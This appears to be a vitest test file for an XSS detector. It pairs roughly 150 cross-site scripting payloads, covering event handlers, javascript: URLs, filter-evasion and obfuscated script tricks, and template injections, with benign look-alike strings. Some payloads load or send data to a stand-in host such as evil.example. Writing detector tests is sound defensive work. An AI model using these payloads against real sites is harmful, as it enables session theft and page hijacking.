// The contexts one by one, and texts that look like attacks and are none.
import { describe, expect, it } from 'vitest';
import {
  CLIENT_TEMPLATE_BYTES_MAX,
  JOINED_TEXT_BYTES_MAX,
  MARKUP_REREADS_MAX,
  MARKUP_SHORT_BYTES_MAX,
  REFERENCE_ROUNDS_MAX,
  SCRIPT_SHORT_BYTES_MAX,
} from '../../../../src/core/limits.ts';
import { detectXss } from '../../../../src/detect/html/detect-xss.ts';
import { markupRuns } from '../../../../src/detect/html/markup.ts';

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'what probes take for the end of a value': [
    '<p open"a"onclick=f()>',
    '<p id=x/onclick=f()>',
    "<p id='x'y'onclick=f()>",
    '<p\vid=x\vonclick=f()>',
    'x" id=y onclick="1"',
    "' popover ontoggle='1//",
  ],
  'wrapped addresses and images of several': [
    '<a href="jar:javascript:f()">x</a>',
    '<a href=pcast:javascript:f()>x</a>',
    '<img srcset="a.png, javascript:f()">',
  ],
  'escaped ends of elements that hide their text': [
    '<noscript>&lt;/noscript&gt;&lt;img src=x onerror=f()&gt;</noscript>',
    '<title>x&#060;/title&#62;&#60;svg onload=f()&#62;</title>',
    '<style>&#x3c;/style&#x3e;&#x3c;svg onload=f()&#x3e;</style>',
  ],
  'what a cleaner puts together': [
    '" onm<>ouseover="ale<>rt(0)',
    '" on<embed>click="al<embed>ert(1)',
    '<img src=x on<!--x-->error=alert(1)>',
    '<\xe2\x80\x8bscript>f()</script>',
    '<img src=x onerror\xe2\x80\x8b=alert(1)>',
    '<s\bcript>f()</s\bcript>',
    '\xe2\x80\x9dautofocus onfocus=\xe2\x80\x99alert()',
    'a=\xe2\x80\x98ev\xe2\x80\x99;b=\xe2\x80\x98al\xe2\x80\x99',
    'ale/**/rt(1)',
    'xss"</sc"ript><sv"g/onloa"d=aler"t"(document.doma"in)>',
    "<'s'v'g' o'n'l'o'a'd'='f'('7')' '>'",
    '\\j\\av\\a\\s\\cr\\i\\pt\\:\\a\\l\\ert\\(1\\)',
  ],
  'short scripts that act on the page': [
    'x={valueOf:alert};x+1',
    '({[Symbol.toPrimitive]:confirm})+1',
    'throw{},onerror??=alert,1',
    "location=/javascript:/.source+'x'",
    'location.hash.slice(1)',
    'JSON.stringify(localStorage)',
    'f(document.domain)',
    '(x=>this[x+`ert`](1))`al`',
    'Reflect.set.call`${a}${b}${c}`',
    'eval(0x258da033.toString(30))(1)',
    "document.querySelector('form').submit()",
    "d['coo'+'kie']",
    '{{ [1].reduce(value.alert, 1) }}',
    'Function`a${name}```',
    '[1].map(prompt)',
    '(confirm)(1)',
    'a=prompt,a(1)',
    'b=prompt,onerror=b;throw 1',
    'a=confirm;b=2;a(b)',
    '(0,prompt)(1)',
    'prompt?.(1)',
    '(confirm)?.(1)',
    'prompt.call(1,2)',
    'setTimeout(prompt)',
    'Array.from([1],prompt)',
    '[prompt][0](1)',
    'onerror=prompt;throw 1',
    '({toString:prompt})+f()',
  ],
  'elements that run': [
    '<script>alert(1)</script>',
    '<script',
    '<svg:script>x</svg:script>',
    '<iframe src=//evil.example>',
    '<iframe srcdoc="x">',
    '<frameset><frame src=//evil.example>',
    '<object data=x>',
    '<embed src=x>',
    '<applet code=x>',
    '<base href=//evil.example/>',
    '<form action=//evil.example><input>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<meta charset=utf-7>',
    '<link rel=import href=//evil.example>',
    '<svg><animate attributeName=href values=x>',
    '<t:set attributeName="innerHTML" to="x">',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
  ],
  'event handlers': [
    '<img src=x onerror=alert(1)>',
    '<img src=x onerror=alert(1)',
    '<img/src=x/onerror=alert(1)>',
    '<img\fsrc=x\nonerror\t=\ralert(1)>',
    '<img src="x"onerror="x">',
    '<p onanything="alert(1)">',
    '<img src=`x`onerror=alert(1)>',
  ],
  'URLs of elements': [
    '<a href="javascript:alert(1)">',
    '<a href=" \x01java\tscript\n:alert(1)">',
    '<a href="&#x6a;avascript&colon;alert(1)">',
    '<a xlink:href=vbscript:msgbox(1)>',
    '<img src="javascript:alert(1)">',
    '<a href="data:text/html,x">',
    '<embed src="data:image/svg+xml,x">',
    '<button formaction=javascript:alert(1)>',
  ],
  styles: [
    '<div style="width:expression(alert(1))">',
    '<p style="x:exp/**/res\\73ion(alert(1))">',
    '<p style="background:url(javascript:alert(1))">',
    '<style>p{-moz-binding:url(x)}</style>',
    '<p style="behavior:url(x.htc)">',
    '<style>p {behavior:url(#default#time2)}</style>',
  ],
  'text hidden by one reading': [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!-- --!><img src=x onerror=alert(1)>',
    '<!--><img src=x onerror=alert(1)>',
    '<textarea></textarea><script>alert(1)</script>',
    '<p title="&lt;img src=x onerror=alert(1)&gt;">',
  ],
  'attributes behind a quote': [
    '" onfocus=steal autofocus x="',
    "' autofocus onfocus=steal x='",
    '" autofocus onfocus=alert(1) x="',
    "x' onclick='alert(1)",
    '"/onclick=alert(1)//',
    '" style="x:expression(alert(1))',
    'exp/*<a style=\'no\\x:no("*//*");x:ex/*x*//*/*/pression(f(1))\'>',
    '" href="javascript:alert(1)',
    '" formaction="javascript:alert(1)',
    '" srcdoc="x',
  ],
  'attributes behind a space': ['x onclick=alert(1)', 'onclick=alert(1)', 'x\tonload=alert`1`//'],
  'whole values as URLs': [
    'javascript:alert(1)',
    ' java\nscript:alert(1)',
    'javascript://x\nalert(1)',
    'vbscript:msgbox(1)',
    'data:text/html;base64,PHNjcmlwdD4=',
    'data:text/html,x',
    'javascript&colon;alert(1)',
  ],
  'strings of scripts': [
    "';alert(1)//",
    '"-alert(1)-"',
    "');find(1);//",
    "'+document.cookie+'",
    "\\';alert(1)//",
    '&#39;-alert(1)-&#39;',
    '${alert(1)}',
    '`-alert(1)-`',
    '</script>',
  ],
  scripts: [
    'alert(1)',
    'prompt(document.domain)',
    'eval(atob("YQ=="))',
    'onerror=alert;throw 1',
    "window['al'+'ert'](1)",
    "[].filter.constructor('alert(1)')()",
    '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]',
    "import('//evil.example/x.js')",
    'String.fromCharCode(88,83,83)',
    "document.write('x')",
    "location='javascript:alert(1)'",
    "location='javas' + 'cript:f(1)'",
    'window.onload=alert',
    'toString=alert',
    '(((confirm)))``',
    "top[atob('YQ==')](1)",
    'import(/\\\\evil.example/.source)',
    "A='',B=!A+A,C=!B+A,D=A+{}",
    '([,\u00ed,,]=[]+{},[\u00ec]=!\u00ed+\u00ed)',
  ],
  'words taken apart': [
    "s1=''+'java'+''+'scr'+'';s2='ipt'+':';u=s1+s2;URL=u",
    'b=top,a=/loc/ . source,a+=/ation/ . source,b[a=a] = name',
    "o={x:''+<s>eva</s>+<s>l</s>};0[this.x]",
    "s=0?'1':'jav';t=0?'1':'ascript';u=0?'1':':';v=s+t+u",
    "__=1?'ev':0,_=1?'al':0,x=__+_",
    '1[__+_](_+___)',
    "''[a](b)",
  ],
  'behind the end of a comment': ['*/a=eval;b=alert;a(b(/e/.source));/*', '*/eval(name)//'],
  'short scripts as whole values': [
    "document['write']('x')",
    "document.body.innerHTML='x'",
    "document.cookie='a=b'",
    "document.body.setAttribute('on' + 'click', 'f()')",
    "open('//evil.example')",
    "fetch('https://evil.example/?' + f(1))",
    "$.ajax({url: '//evil.example', dataType: 'script'})",
    "var a='al',b='ert';window[a+b](1)",
    'for(i in self)if(/^ale/.test(i))self[i](1)',
    '({alert:a}=window),a(1)',
    'self.print()',
    "trustedTypes.createPolicy('default',{createHTML:x=>f(x)})",
  ],
  'templates of client frameworks': [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    '{{alert(1)}}',
    '[[x.__proto__.y=1]]',
    '<b ng-focus="$event.view.alert(1)">',
    '<b v-html="x" @click="alert(1)">',
  ],
};

const ORDINARY: Readonly<Record<string, readonly string[]>> = {
  'comparisons and signs': [
    'a < b and c > d',
    '<3',
    '1<2',
    'x<y && y>z',
    'if (a<b and one=2) c>d',
    '<-',
    '<',
    '<>',
  ],
  'mail and generics': [
    'Ann <ann@example.com>',
    'List<String> x = new ArrayList<String>()',
    'Map<string, object>',
    'Promise<void>',
    '<https://example.com/?a=b>',
  ],
  'markup that shows': [
    '<p>A <b>bold</b> <a href="https://example.com/?a=1&amp;b=2" target="_blank">link</a></p>',
    '<img src="https://example.com/a.png" alt="A cat" width=20>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="data:image/svg+xml;utf8,%3Csvg/%3E">',
    '<style>v\\:* {behavior:url(#default#VML);} st1\\:*{behavior:url(#ieooui)}</style>',
    '<ul style="scroll-behavior: smooth; color: rgb(1,2,3)"><li>x</ul>',
    '<style>p { color: red } @import url(x.css);</style>',
    '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>',
    '<form action="/search"><input name=q></form>',
    '<meta charset="utf-8"><link rel="stylesheet" href="a.css">',
    '<a href="javascript:void(0)">x</a><a href="javascript:;">y</a>',
    '<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>',
    '<title>On &lt;b&gt;</title><pre>&lt;img src=x onerror=f()&gt;</pre>',
    '<img srcset="a.png 1x, b.png 2x" alt="javascript: an image">',
    '<a href=/blog/ontology/once=1 title="the editor\'s choice">x</a>',
    '<!-- a comment --> <!DOCTYPE html>',
    '<object> is a word, <iframe> another',
  ],
  prose: [
    'javascript: the good parts',
    'javascript: the good parts (2nd edition)',
    'Use onclick to call something, and one = two.',
    "He asked 'why'; find out. 'Print' (or not).",
    '"Alert" - the document said.',
    'Use the alert (see page 3) to confirm (yes/no).',
    'confirm (yes/no)',
    "James' (first) book; O'Neil's (second)",
    '5\' 6" tall (or so)',
    '"once" only=1',
    'The document.cookie property is explained here.',
    'A `list` item or `)`. Then (perhaps) `more`.',
    'data: text, html',
  ],
  'code and data': [
    "f'(x) + g(x) = 2g(x)",
    'sin(x)+1',
    'Math.max(1,2)',
    'for (i=0;i<n;i++) a[i]=b(i);',
    "print('hello')",
    '{"a":"b","onclick":"f"}',
    '["a","b (c)"]',
    "select * from t where a='x' and f(b)='y'",
    '${HOME}/bin ${user.name()}',
    '{{name}} {{ user.name }} {{ items | json }}',
    '[[Wiki link]] [a](https://example.com)',
    'String.fromCharCode(code + 32)',
    "document.querySelector('#a').value",
    "['name', 'value', 'retrieve'] = f('location')",
    "a = 'con' + 'form'; b = ['ale', 'house']",
    '/* a */ f(1) */ g(2)',
    '2[a] + f(1)',
    "localStorage.getItem('a')",
    "fetch('/api/users').then(f)",
    "background: url('https://example.com/a.png')",
    "{confirm: t('yes'), prompt: t('no')}",
    'this[name](1)',
    "'java' + 'doc' + f(1)",
    '!a && b + f(1)',
    'el.onclick = handler',
    '<b v-if="shown" :key="id">x</b>',
    'https://example.com/?a=b&c=d:(e)',
    'swal.alert("x")',
    '1.2.3 (2024-01-01)',
    'The glob src/**/test and \xe2\x80\x9calert\xe2\x80\x9d (twice) \xe2\x80\x93 it\xe2\x80\x99s what = says',
    'response = client.generate(prompt)',
    'const r = await model.invoke(prompt);',
    'messages.push({role: "user", content: prompt})',
    'this.confirm = confirm; f(1)',
    'const { prompt } = await request.json()',
    'location = Berlin',
    'C:\\apps\\corp\\exe\\(old)\\a=1',
    "a <'b', 'c'> (d)",
    '{ toString: f, x: 1 }',
    'a <= location',
    'foo<br>bar<b>baz</b>(1)',
    "<script setup>\nimport { ref } from 'vue'\nf(() => { g('x') })\n</script>",
    'Put it between `<script>` and `</script>`',
  ],
};

describe.each(Object.entries(ATTACKS))('detects %s', (_, values) => {
  it.each(values)('%j', (value) => expect(detectXss(value)).toBe(true));
});

describe.each(Object.entries(ORDINARY))('leaves %s alone', (_, values) => {
  it.each(values)('%j', (value) => expect(detectXss(value)).toBe(false));
});

it(`reads what attributes hide ${MARKUP_REREADS_MAX} deep and no deeper`, () => {
  const hidden = (depth: number): string => {
    let markup = '<img src=x onerror=alert(1)>';
    for (let level = 0; level < depth; level++) {
      markup = `<p title="${markup.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')}">`;
    }
    return markup;
  };
  expect(markupRuns(hidden(MARKUP_REREADS_MAX), 0)).toBe(true);
  expect(markupRuns(hidden(MARKUP_REREADS_MAX + 1), 0)).toBe(false);
});

it(`decodes what was escaped up to ${REFERENCE_ROUNDS_MAX} times`, () => {
  const escaped = (times: number): string => {
    let markup = '<iframe src=x>';
    for (let round = 0; round < times; round++)
      markup = markup.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
    return markup;
  };
  expect(detectXss(escaped(REFERENCE_ROUNDS_MAX))).toBe(true);
  expect(detectXss(escaped(REFERENCE_ROUNDS_MAX + 1))).toBe(false);
});

it('cleans short values only', () => {
  const padded = (length: number): string => {
    const attack = '" onm<>ouseover="ale<>rt(0)"';
    return attack + ' '.repeat(length - attack.length);
  };
  expect(detectXss(padded(MARKUP_SHORT_BYTES_MAX))).toBe(true);
  expect(detectXss(padded(MARKUP_SHORT_BYTES_MAX + 1))).toBe(false);
});

it(`reads ${CLIENT_TEMPLATE_BYTES_MAX} bytes of an expression`, () => {
  const expression = (before: number): string => `{{${'x '.repeat(before / 2)}.constructor.constructor(1)}}`;
  expect(detectXss(expression(CLIENT_TEMPLATE_BYTES_MAX / 2))).toBe(true);
  expect(detectXss(expression(CLIENT_TEMPLATE_BYTES_MAX))).toBe(false);
});

it('takes a script that acts on the page for an attack up to the length of one line of code', () => {
  const script = "document.body.innerHTML='";
  const padded = (length: number): string => `${script}${'x'.repeat(length - script.length - 1)}'`;
  expect(detectXss(padded(SCRIPT_SHORT_BYTES_MAX))).toBe(true);
  expect(detectXss(padded(SCRIPT_SHORT_BYTES_MAX + 1))).toBe(false);
});

it('puts literals together in texts of up to a page of code', () => {
  const script = "a='ev';b='al';c=";
  const padded = (length: number): string => script + '1'.repeat(length - script.length);
  expect(detectXss(padded(JOINED_TEXT_BYTES_MAX))).toBe(true);
  expect(detectXss(padded(JOINED_TEXT_BYTES_MAX + 1))).toBe(false);
});
